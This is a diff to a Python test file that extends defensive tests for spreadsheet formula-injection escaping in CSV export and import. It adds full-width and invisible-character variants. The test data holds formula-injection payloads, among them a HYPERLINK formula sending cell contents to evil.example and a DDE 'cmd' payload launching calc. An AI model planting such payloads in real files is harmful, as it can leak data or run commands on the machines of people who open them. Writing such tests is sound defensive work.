@@ -11,26 +11,56 @@ from pathlib import Path
 
 from project_support import REPO, copy_project, invoke_sotong
 from delivery_support import run_cli
+import pytest
 from hypothesis import given, settings, strategies as st
 
 from sotong.project import Project
-from sotong.spreadsheet import FORMULA_STARTS, neutralized, restored
+from sotong.spreadsheet import looks_like_formula, neutralized, restored
 from sotong.store import Store, Subscriber
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"보기")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=1+1", "''+1"]
-cells = st.text(alphabet=st.sampled_from("=+-@\t\r' a1가,\""), max_size=8) | st.text(max_size=8)
+# What spreadsheets run too: the full-width signs a Korean IME types, and a sign after what shows nothing
+FULL_WIDTH_AND_HIDDEN = ["\uff1dSUM(1)", "\uff0b1", "\uff0d2+3", "\uff20SUM(A1)", "\u200b=1+1", "\ufeff+1",
+                         "\u200c-1", "\u200d@A1", "\u2060=1", "\u00a0=1", " =1", "  \u200b \uff1d1", "\u3000=1"]
+SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+SHOWING_NOTHING = " \t\r\u00a0\u200b\u200c\u200d\u2060\ufeff\u3000"  # white space and invisible format characters
+cells = st.text(alphabet=st.sampled_from(SIGNS + SHOWING_NOTHING + "' a1가,\"ａ"), max_size=8)
+
+
+def formula_like_by_reading(text: str) -> bool:
+    """OWASP's rule as spreadsheets run it: past the leading quotes, a tab or
+    CR first, or a formula sign (ASCII or full-width) first once white space
+    and invisible characters are dropped."""
+    rest = text.lstrip("'")
+    return rest[:1] in ("\t", "\r") and rest != "" or rest.lstrip(SHOWING_NOTHING)[:1] in tuple(SIGNS)
 
 
 @given(cells)
-@settings(max_examples=300)
+@settings(max_examples=500)
 def test_neutralized_against_a_reading_of_owasp(text):
-    """A cell is changed iff, past its leading quotes, it starts with = + - @ tab or CR;
+    """A cell is changed iff, past its leading quotes, it starts like a formula (=
+    + - @ tab CR, ＝ ＋ － ＠, or a sign after spaces and invisible characters);
     then it gets one quote more; nothing written starts like a formula; reading undoes it."""
-    formula_like = text.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") and text.lstrip("'") != ""
-    assert neutralized(text) == ("'" + text if formula_like else text)
-    assert not neutralized(text).startswith(FORMULA_STARTS)
+    assert neutralized(text) == ("'" + text if formula_like_by_reading(text) else text)
+    assert not looks_like_formula(neutralized(text))
     assert restored(neutralized(text)) == text
+
+
+@given(st.text(max_size=12))
+@settings(max_examples=500)
+def test_any_text_round_trips(text):
+    assert restored(neutralized(text)) == text and not looks_like_formula(neutralized(text))
+
+
+@pytest.mark.parametrize("text", HOSTILE[:6] + FULL_WIDTH_AND_HIDDEN)
+def test_full_width_signs_and_a_sign_after_invisible_characters_are_neutralized(text):
+    assert looks_like_formula(text) and neutralized(text) == "'" + text and restored("'" + text) == text
+
+
+@pytest.mark.parametrize("text", ["1+1", "a=1", "\uff21=1", "\u200b", "", "  ", "\u200ba=1", "[성동구]"])
+def test_what_no_spreadsheet_runs_is_written_as_it_is(text):
+    assert not looks_like_formula(text) and neutralized(text) == text
 
 
 def test_numbers_stay_numbers():
@@ -51,6 +81,9 @@ S3,'=1+1,s3@example.com,010-3333-4444,1990,F,yongdap,culture,email,person,,,
 -7,김수상,x3@example.com,,1970,F,yongdap,culture,email,person,,,
 +7,김수상,x4@example.com,,1970,F,yongdap,culture,email,person,,,
 '=2+2,김수상,x5@example.com,,1970,F,yongdap,culture,email,person,,,
+＝1+1,김수상,x6@example.com,,1970,F,yongdap,culture,email,person,,,
+＠cmd,김수상,x7@example.com,,1970,F,yongdap,culture,email,person,,,
+S4,＋SUM(1),＝s4@example.com,,1970,F,yongdap,culture,email,person,,,
 """
 
 
@@ -60,23 +93,25 @@ def test_subscribers_export_neutralizes_and_import_round_trips(tmp_path):
     imported = invoke_sotong(project, "subscribers", "import", str(tmp_path / "in.csv"))
     assert imported.code == 1
     rejected = [line for line in imported.stderr.splitlines() if "a spreadsheet runs as a formula" in line]
-    assert [int(re.match(r".*in\.csv:(\d+):", line).group(1)) for line in rejected] == [5, 6, 7, 8, 9]
+    assert [int(re.match(r".*in\.csv:(\d+):", line).group(1)) for line in rejected] == [5, 6, 7, 8, 9, 10, 11]
     assert 'id "=2+2" starts with "="' in imported.stderr  # a quoted formula id is still one
-    assert "3 added, 0 updated, 0 unchanged, 5 rejected" in imported.stdout
+    assert 'id "＝1+1" starts with "＝"' in imported.stderr and 'id "＠cmd" starts with "＠"' in imported.stderr
+    assert "4 added, 0 updated, 0 unchanged, 7 rejected" in imported.stdout
     store = Store.open(project / "private" / "sotong.db")
     stored = {row[0]: row[1:] for row in store.db.execute("SELECT id, name, email, phone FROM subscribers")}
     store.close()
     assert stored == {"S1": ('=HYPERLINK("http://evil.example","보기")', "=cmd@example.com", "010-1234-5678"),
                       "S2": ("@SUM(1)", "-dash@example.com", "010-2222-3333"),
-                      "S3": ("=1+1", "s3@example.com", "010-3333-4444")}
+                      "S3": ("=1+1", "s3@example.com", "010-3333-4444"), "S4": ("＋SUM(1)", "=s4@example.com", None)}  # an address is read NFKC
 
     assert invoke_sotong(project, "subscribers", "export", str(tmp_path / "out.csv")).code == 0
     rows = {row[0]: row for row in read_csv(tmp_path / "out.csv")[1:]}
     assert rows["S1"][1:4] == ['\'=HYPERLINK("http://evil.example","보기")', "'=cmd@example.com", "010-1234-5678"]
     assert rows["S2"][1:3] == ["'@SUM(1)", "'-dash@example.com"] and rows["S3"][1] == "'=1+1"
-    assert not any(cell.startswith(FORMULA_STARTS) for row in rows.values() for cell in row)
+    assert rows["S4"][1:3] == ["'＋SUM(1)", "'=s4@example.com"]
+    assert not any(looks_like_formula(cell) for row in rows.values() for cell in row)
     again = invoke_sotong(project, "subscribers", "import", str(tmp_path / "out.csv"))
-    assert again.code == 0 and "0 added, 0 updated, 3 unchanged, 0 rejected" in again.stdout
+    assert again.code == 0 and "0 added, 0 updated, 4 unchanged, 0 rejected" in again.stdout
 
 
 def test_sms_csv_neutralizes_and_send_reads_it_back(tmp_path):
@@ -109,7 +144,7 @@ def test_the_annual_report_csv_neutralizes_names(tmp_path):
     rows = {(row[0], row[1]): row[2:] for row in read_csv(csv_path)}
     assert rows[("by department", '\'=HYPERLINK("x")')][:5] == ["1", "4", "0", "0", "4"]
     assert rows[("by field", "'-2+3")][:5] == ["1", "4", "0", "0", "4"]
-    assert not any(item.startswith(FORMULA_STARTS) for _table, item in rows)
+    assert not any(looks_like_formula(item) for _table, item in rows)
 
 
 def test_survey_results_csv_neutralizes_options(tmp_path):
